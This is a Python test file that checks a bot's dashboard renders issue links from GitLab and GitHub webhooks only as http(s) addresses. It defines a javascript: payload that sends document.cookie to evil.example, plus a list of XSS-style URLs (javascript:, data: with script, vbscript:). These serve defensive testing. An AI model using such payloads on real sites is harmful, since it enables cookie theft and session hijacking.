"""The issue link on a task's dashboard page, through the real app: the address is the one
the forge's API gives (GitLab's payloads are read back), and only an http(s) address is
ever a link; anything else is shown as text."""

from __future__ import annotations

import re
from collections.abc import AsyncIterator
from pathlib import Path

import httpx
import pytest

from bot.dashboard.views import web_link
from tests.harness import Harness, fixture
from tests.test_logins import TOKEN, with_token
from tests.worker.test_readback import PROJECT, labeled, note

EVIL = "javascript:fetch('https://evil.example/?c='+document.cookie)"
FORGE_URL = f"https://gitlab.example/{PROJECT}/-/issues/17"  # what the FakeForge's API gives


@pytest.fixture
async def bot(tmp_path: Path) -> AsyncIterator[Harness]:
    async with Harness(tmp_path, overrides=with_token()) as harness:
        repo = harness.gitlab.add_repo(PROJECT, writers=("root",))
        harness.gitlab.add_issue(repo, 17, title="New API: create/update/delete file")
        login = await harness.client.post("/dashboard/login", data={"token": TOKEN})
        assert login.status_code == 303
        yield harness


async def task_page(bot: Harness) -> httpx.Response:
    [task] = await bot.tasks()
    page = await bot.client.get(f"/dashboard/tasks/{task.id}")
    assert page.status_code == 200
    return page


def hrefs(html: str) -> list[str]:
    return re.findall(r'href="([^"]*)"', html)


async def test_a_gitlab_issue_hook_cannot_plant_a_javascript_link(bot: Harness) -> None:
    payload = labeled()
    payload["object_attributes"]["url"] = EVIL
    await bot.send_gitlab("Issue Hook", payload)
    await bot.dispatch_all()
    [task] = await bot.tasks()
    assert task.request.issue.web_url == FORGE_URL  # read back from the forge's API
    page = await task_page(bot)
    assert f'<a href="{FORGE_URL}" id="issue"' in page.text
    assert not any(h.lower().startswith("javascript") for h in hrefs(page.text))


async def test_a_gitlab_note_cannot_plant_one_either(bot: Harness) -> None:
    payload = note()
    payload["object_attributes"]["url"] = EVIL + "#note_1"
    payload["issue"]["url"] = EVIL
    await bot.send_gitlab("Note Hook", payload)
    await bot.dispatch_all()
    [task] = await bot.tasks()
    # formed under the project's address as the FakeForge's API gives it
    assert task.request.issue.web_url == FORGE_URL


async def test_a_stored_address_that_is_not_http_is_shown_as_text(bot: Harness) -> None:
    # GitHub's payloads are signed and used as sent: whatever address a task holds, the
    # page makes a link of http(s) only.
    repo = bot.github.add_repo("Codertocat/Hello-World", writers=("Codertocat",))
    bot.github.add_issue(repo, 1, title="Spelling error in the README file")
    payload = fixture("github", "issue_comment.created.json")
    payload["comment"]["body"] = "/agent run"
    payload["issue"]["html_url"] = EVIL
    await bot.send_github("issue_comment", payload)
    await bot.dispatch_all()
    page = await task_page(bot)
    assert '<span id="issue">Codertocat/Hello-World#1</span>' in page.text
    assert not any(h.lower().startswith("javascript") for h in hrefs(page.text))
    assert "javascript:fetch(&#39;https://evil.example/" in page.text  # as text, escaped


@pytest.mark.parametrize(
    "url",
    [
        "javascript:alert(1)",
        "JavaScript:alert(1)",
        " javascript:alert(1)",
        "java\tscript:alert(1)",
        "data:text/html,<script>alert(1)</script>",
        "vbscript:msgbox(1)",
        "//evil.example/x",
        "/relative/path",
        "https:/\\evil.example",
        "http://",
        "",
    ],
)
def test_only_http_and_https_addresses_with_a_host_are_links(url: str) -> None:
    assert web_link(url) is None


def test_ordinary_addresses_are_links() -> None:
    for url in ("https://github.com/o/r/issues/1", "http://gitlab.local:8080/g/p/-/issues/2"):
        assert web_link(url) == url
